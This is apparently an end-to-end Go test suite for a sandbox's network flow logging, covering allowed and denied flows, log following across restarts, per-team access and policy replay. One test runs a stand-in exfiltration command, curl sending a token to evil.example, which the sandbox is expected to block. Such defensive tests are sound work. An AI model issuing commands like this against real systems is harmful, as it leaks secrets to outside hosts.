package e2e

import (
	"context"
	"encoding/json"
	"slices"
	"testing"
	"time"

	"github.com/moat-sandbox/moat/api"
	"github.com/moat-sandbox/moat/client"
	"github.com/moat-sandbox/moat/test/harness"
)

// flowsOf waits until records match, and returns all of them that do.
func flowsOf(t *testing.T, s *harness.Server, id string, f client.FlowFilter) []api.FlowRecord {
	t.Helper()
	var page api.FlowPage
	s.Wait("records of the sandbox", func() bool {
		var err error
		if page, err = s.Client().Flows(t.Context(), id, f); err != nil {
			t.Fatal(err)
		}
		return len(page.Flows) > 0
	})
	return page.Flows
}

// TestFlows does what sandboxes do and reads in the API what became of it: what
// passed, what was refused and why, under the id that the refusal shows.
func TestFlows(t *testing.T) {
	s := harness.Start(t, harness.Options{})
	box := withProber(t, s, only("example.com"))
	visits{"https://example.com/": "this is example.com"}.check(t, box)
	var why refusal
	if body := box.MustRun(t, "curl -sS http://evil.example/a?token=secret"); json.Unmarshal([]byte(body), &why) != nil {
		t.Fatalf("the refusal is %q", body)
	}

	passed := flowsOf(t, s, box.ID, client.FlowFilter{Protocol: "tls", Name: "example.com", Verdict: "allow", Direction: "out"})
	if f := passed[0]; f.Address == "" || f.Port != 443 || f.Entry != "example.com" || f.Generation != 1 || f.BytesUp == 0 || f.BytesDown == 0 {
		t.Errorf("the allowed flow is recorded as %+v", f)
	}
	refused := flowsOf(t, s, box.ID, client.FlowFilter{Name: "*.example", Protocol: "http", Verdict: "deny"})
	if f := refused[0]; f.Decision != why.Decision || f.Reason != why.Reason || f.Method != "GET" || f.Path != "/a" || f.Status != 403 {
		t.Errorf("the refused request is recorded as %+v, the sandbox was told %+v", f, why)
	}
	if found, err := s.Client().Flows(t.Context(), box.ID, client.FlowFilter{Since: time.Now().Add(time.Hour)}); err != nil || len(found.Flows) != 0 {
		t.Errorf("from the future: %+v, %v", found, err)
	}

	stranger, err := s.Operator().CreateKey(t.Context(), api.NewKey{Name: "stranger"})
	if err != nil {
		t.Fatal(err)
	}
	other := s.ClientOf(stranger.Secret)
	if _, err := other.Flows(t.Context(), box.ID, client.FlowFilter{}); harness.Status(err) != 404 {
		t.Errorf("another team reads the log: %v", err)
	}
	if err := s.Client().Kill(t.Context(), box.ID); err != nil {
		t.Fatal(err)
	}
	after, err := s.Client().Flows(t.Context(), box.ID, client.FlowFilter{})
	if err != nil || !slices.ContainsFunc(after.Flows, func(f api.FlowRecord) bool { return f.Decision == why.Decision }) {
		t.Errorf("after the end of the sandbox: %+v, %v", after, err)
	}
	if _, err := other.Flows(t.Context(), box.ID, client.FlowFilter{}); harness.Status(err) != 404 {
		t.Errorf("another team reads the log after the end: %v", err)
	}
}

// TestDirectFlows: what the kernel decides by itself is recorded too, refused
// flows at once and allowed ones with what they carried.
func TestDirectFlows(t *testing.T) {
	s := harness.Start(t, harness.Options{})
	box := withProber(t, s, only("1.1.1.1"))
	expect(t, s, box, []string{"1.1.1.1"}, []string{"8.8.8.8"})
	for _, protocol := range []string{"tcp", "udp", "icmp"} {
		f := flowsOf(t, s, box.ID, client.FlowFilter{Protocol: protocol, Address: "8.8.0.0/16", Verdict: "deny"})[0]
		if f.Address != "8.8.8.8" || f.Entry != "0.0.0.0/0" || f.Reason != "8.8.8.8 is in denyOut entry 0.0.0.0/0" || f.Generation != 1 || f.BytesDown != 0 {
			t.Errorf("refused %s is recorded as %+v", protocol, f)
		}
	}
	box.MustRun(t, "curl -sS http://1.1.1.1/")
	passed := flowsOf(t, s, box.ID, client.FlowFilter{Protocol: "tcp", Address: "1.1.1.1", Verdict: "allow"})
	s.Wait("the request's flow has ended and is recorded", func() bool {
		passed = flowsOf(t, s, box.ID, client.FlowFilter{Protocol: "tcp", Address: "1.1.1.1", Verdict: "allow"})
		return slices.ContainsFunc(passed, func(f api.FlowRecord) bool { return f.Port == 80 && f.BytesUp > 0 && f.BytesDown > 0 })
	})
	answer, err := s.Client().Explain(t.Context(), box.ID, api.Question{Candidate: &api.NetworkUpdate{Network: *network([]string{"8.8.8.8"}, everything)}})
	if err != nil {
		t.Fatal(err)
	}
	swapped := func(flows []api.ReplayedFlow, address string) bool {
		return slices.ContainsFunc(flows, func(f api.ReplayedFlow) bool { return f.Address == address && f.Protocol == "tcp" })
	}
	if !swapped(answer.Replay.Refused, "1.1.1.1") || !swapped(answer.Replay.Allowed, "8.8.8.8") {
		t.Errorf("replayed as %+v", answer.Replay)
	}
}

// TestFollowFlows follows a log over a restart of the server, which is told of,
// to the end of the sandbox.
func TestFollowFlows(t *testing.T) {
	s := harness.Start(t, harness.Options{})
	box := s.Create(t, only("example.com"))
	ctx, stop := context.WithTimeout(t.Context(), 90*time.Second)
	defer stop()
	events, ended := make(chan client.FlowEvent, 1000), make(chan error, 1)
	go func() {
		defer close(events)
		for event, err := range s.Client().FollowFlows(ctx, box.ID, client.FlowFilter{Protocol: "http", Direction: "out"}) {
			if err != nil {
				ended <- err
				return
			}
			events <- event
		}
		ended <- ctx.Err()
	}()
	next := func(what string) client.FlowEvent {
		t.Helper()
		select {
		case e, ok := <-events:
			if !ok {
				t.Fatalf("%s: the log ended", what)
			}
			return e
		case <-ctx.Done():
			t.Fatalf("%s: nothing came", what)
		}
		return client.FlowEvent{}
	}
	visits{"http://evil.example/1": "no entry"}.check(t, box)
	if e := next("a refusal"); e.Flow.Path != "/1" || e.Flow.Verdict != "deny" {
		t.Errorf("followed %+v", e)
	}
	stopping := time.Now()
	s.Stop()
	if took := time.Since(stopping); took > 4*time.Second {
		t.Errorf("with somebody who follows a log the server took %v to stop", took)
	}
	s.Start()
	visits{"http://evil.example/2": "no entry"}.check(t, box)
	if e := next("the restart"); e.Lost == 0 {
		t.Errorf("after the restart came %+v, want the news that records may be missing", e)
	}
	if e := next("another refusal"); e.Flow.Path != "/2" {
		t.Errorf("followed %+v", e)
	}
	if err := s.Client().Kill(t.Context(), box.ID); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-ended:
		if err != nil {
			t.Errorf("the log ended with %v", err)
		}
	case <-ctx.Done():
		t.Error("the log goes on after the end of the sandbox")
	}
}

// TestReplay asks what a candidate would have changed, and finds it so when it
// is in force.
func TestReplay(t *testing.T) {
	s := harness.Start(t, harness.Options{})
	box := s.Create(t, only("example.com", "google.com"))
	for range 2 {
		visits{"https://google.com/": "this is google.com", "https://example.com/": "this is example.com", "https://www.google.com/": alert}.check(t, box)
	}
	flowsOf(t, s, box.ID, client.FlowFilter{Name: "www.google.com", Protocol: "tls"})
	flowsOf(t, s, box.ID, client.FlowFilter{Name: "google.com", Protocol: "tls"})
	candidate := api.NetworkUpdate{Network: *network([]string{"example.com", "*.google.com"}, everything)}
	answer, err := s.Client().Explain(t.Context(), box.ID, api.Question{URL: "https://google.com/", Candidate: &candidate})
	if err != nil {
		t.Fatal(err)
	}
	if answer.Verdict != "allow" || answer.Candidate == nil || answer.Candidate.Verdict != "deny" {
		t.Errorf("now %+v, then %+v", answer.Decision, answer.Candidate)
	}
	names := func(flows []api.ReplayedFlow) (all []string) {
		for _, f := range flows {
			if f.Protocol == "tls" {
				all = append(all, f.Name)
			}
		}
		return all
	}
	if refused, allowed := names(answer.Replay.Refused), names(answer.Replay.Allowed); !slices.Equal(refused, []string{"google.com"}) || !slices.Equal(allowed, []string{"www.google.com"}) {
		t.Errorf("it would have refused %v and allowed %v: %+v", refused, allowed, answer.Replay)
	}
	if err := s.Client().SetNetwork(t.Context(), box.ID, candidate); err != nil {
		t.Fatal(err)
	}
	visits{"https://google.com/": alert, "https://www.google.com/": "this is www.google.com", "https://example.com/": "this is example.com"}.check(t, box)
}
